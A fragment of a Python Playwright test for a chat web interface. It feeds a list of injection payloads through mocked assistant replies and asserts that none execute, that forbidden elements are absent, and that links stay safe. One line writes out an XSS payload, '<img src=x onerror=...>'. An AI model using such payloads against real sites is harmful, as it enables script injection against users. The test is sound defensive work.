        body=stream(route.request.post_data_json["messages"][-1]["content"]), content_type="text/event-stream"))
    page.goto("/chat")
    for number, payload in enumerate(PAYLOADS, 1):
        ask(page, payload)
        expect(page.locator(".message.assistant[aria-busy=false]")).to_have_count(number)
    expect(page).to_have_url(CHAT)
    assert_only_shown(page)
    assert answers(page).filter(has_text=f"<img src=x onerror={RUN}>").count() >= 10, "shown as it was written"
    kept(page, studio, "", 2 * len(PAYLOADS))
    page.reload()
    expect(page.locator(".message.assistant[aria-busy=false]")).to_have_count(len(PAYLOADS))
    for summary in page.get_by_text("Thoughts", exact=True).all():
        summary.click()
    for link in page.locator(".said a").all():
        link.dispatch_event("mouseover")
    assert_only_shown(page)
    page.goto("/chat")
    ask(page, "\n\n".join(PAYLOADS))
    expect(page.locator(".message.assistant[aria-busy=false]")).to_have_count(1)
    assert_only_shown(page)
    assert not dialogs
    assert not problems.unexpected, problems.unexpected


def assert_only_shown(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    assert page.locator("chat-thread").locator(FORBIDDEN).evaluate_all("found => found.map(e => e.outerHTML)") == []
    links = page.locator("chat-thread a").evaluate_all(
        "found => found.map(a => Object.fromEntries(a.getAttributeNames().map(name => [name, a.getAttribute(name)])))")
    for link in links:
        assert re.match(r"(https?://|mailto:)", link.pop("href")), link
        assert link == {"rel": "noopener noreferrer nofollow", "target": "_blank"}
